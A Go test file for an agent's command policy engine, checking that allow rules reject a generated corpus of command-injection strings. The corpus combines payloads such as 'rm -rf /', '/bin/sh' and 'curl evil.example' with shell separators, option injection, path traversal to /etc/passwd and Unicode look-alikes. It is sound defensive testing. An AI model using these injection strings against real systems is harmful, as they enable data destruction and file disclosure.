package policy_test

import (
	"strings"
	"testing"

	"github.com/sallyport-agent/sallyport/agent/policy"
)

// hostile are texts that an instance could put in the place of an argument, or
// of a whole command, to run something else.
func hostile() []string {
	var out []string
	add := func(list ...string) { out = append(out, list...) }
	payloads := []string{"id", "rm -rf /", "/bin/sh", "curl evil.example", "calc.exe"}
	for _, p := range payloads {
		for _, sep := range []string{";", "&", "&&", "|", "||", "\n", "\r\n", "\r", "\x00", "`", "$(", "${", "<(", ">", ">>", "<", "!", "#", "~", "^", "%", "\x1b", "\u2028", "\u0085", "\uff1b", "\u037e", "\uff5c"} {
			add("a"+sep+p, "a "+sep+" "+p)
		}
		add("`"+p+"`", "$("+p+")", `"`+p, "'"+p, `\`+p, `a" ; `+p+` ; "`, `a' ; `+p+` ; '`, "{"+strings.ReplaceAll(p, " ", ",")+"}", "=("+p+")", "%COMSPEC% /c "+p)
	}
	for _, o := range []string{"-x", "--exec=sh", "-", "--", "-rf", "--output=/etc/passwd", "-oProxyCommand=sh", "\u2010x", "\u2212x", "\u2013x"} {
		add(o, "a "+o, o+" a")
	}
	for _, o := range []string{"..", "../x", "../../etc/passwd", "a/../b", "/..", "a..b", `..\x`, "%2e%2e/", "\uff0e\uff0e/", "\u2024\u2024/"} {
		add(o, "a "+o)
	}
	for _, o := range []string{"*", "?", "[a-z]", "{a,b}", "~", "~root", "!!", "!$", "a*", "/etc/*"} {
		add(o, "a "+o)
	}
	for _, o := range []string{"$HOME", "${IFS}", "$IFS$9id", "%PATH%", "%a:~0,1%", "!PATH!", "$env:PATH", "$'\\x41'", `$"x"`, "$((1))", "$@", "$*", "$0"} {
		add(o, "a "+o)
	}
	for _, o := range []string{"\t", "", "\xff", "\xc0\xaf", "a\u200bb", "a\u202eb", "а", "ａ", "\ufeffa", "a\u00a0b", "\u3000", "a\vb", "a\fb", "\x7f", "\b"} {
		add("x"+o+"y", "'"+o+"'")
	}
	return out
}

func TestHostileCommandsAreDenied(t *testing.T) {
	t.Parallel()
	corpus := hostile()
	if len(corpus) < 300 {
		t.Fatalf("the corpus has %d texts", len(corpus))
	}
	for _, platform := range []string{"linux", "windows"} {
		p := compile(t, platform,
			policy.Rule{Name: "reports", Allow: []string{"Command"}, Names: []string{"/opt/tools/report.sh *"}},
			policy.Rule{Name: "one", Allow: []string{"Command"}, Names: []string{"/opt/tools/user.sh --name=* show", "/opt/tools/*.sh"}},
			policy.Rule{Name: "win", Allow: []string{"Command"}, Names: []string{`C:\tools\report.exe *`}},
			policy.Rule{Name: "disk", Allow: []string{"Command"}, Names: []string{"df -h | sort"}, Shell: true},
		)
		for _, bad := range corpus {
			for _, text := range []string{
				bad, "/opt/tools/report.sh " + bad, "/opt/tools/report.sh ok " + bad, "/opt/tools/report.sh" + bad,
				"/opt/tools/user.sh --name=" + bad + " show", "/opt/tools/" + bad + ".sh", `C:\tools\report.exe ` + bad,
				"df -h | sort" + bad, bad + " df -h | sort",
			} {
				d := p.Decide(command(text))
				if !d.Allow {
					continue
				}
				if d.Grant.Shell && text != "df -h | sort" {
					t.Errorf("%s: %q goes to a shell by rule %s", platform, text, d.Rule)
				}
				onlyData(t, platform, text)
			}
		}
	}
}

// onlyData checks that each word of an allowed command is plain data.
func onlyData(t *testing.T, platform, text string) {
	t.Helper()
	words := subjectOf(text).Words
	if len(words) == 0 || !strings.HasPrefix(words[0], "/opt/tools/") && words[0] != `C:\tools\report.exe` {
		t.Errorf("%s: %q runs the program of the instance: %q", platform, text, words)
		return
	}
	for i, w := range words {
		w, _ = strings.CutPrefix(w, "--name=")
		if strings.HasPrefix(w, "-") || strings.Contains(w, "..") || w == "" {
			t.Errorf("%s: word %d of %q is an option or climbs", platform, i, text)
		}
		for _, r := range w {
			if !strings.ContainsRune("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_./:@=,+-", r) &&
				(r != '\\' || platform != "windows" && i > 0) {
				t.Errorf("%s: word %d of %q holds %q", platform, i, text, r)
			}
		}
	}
}

func FuzzDecide(f *testing.F) {
	for _, s := range hostile()[:40] {
		f.Add(s, "h.example.com", "CN=x,DC=y")
	}
	rules := []policy.Rule{
		{Name: "a", Allow: []string{"Command"}, Names: []string{"/opt/tools/report.sh *", "/opt/*.sh a*b*c"}, Hosts: []string{"*.example.com", "10.0.*"}},
		{Name: "d", Deny: []string{"Command"}, Names: []string{"*rm *"}, When: map[string]policy.Condition{"dn": {Under: "DC=y"}}},
	}
	p := compile(f, "linux", rules...)
	f.Fuzz(func(t *testing.T, text, host, dn string) {
		r := command(text)
		r.Host = host
		r.Params = map[string]any{"dn": dn}
		d := p.Explain(r)
		if d.Allow && (d.Grant.Shell || !strings.HasPrefix(r.Subject.Words[0], "/opt/") || host == "") {
			t.Errorf("%q on %q: %+v", text, host, d)
		}
	})
}
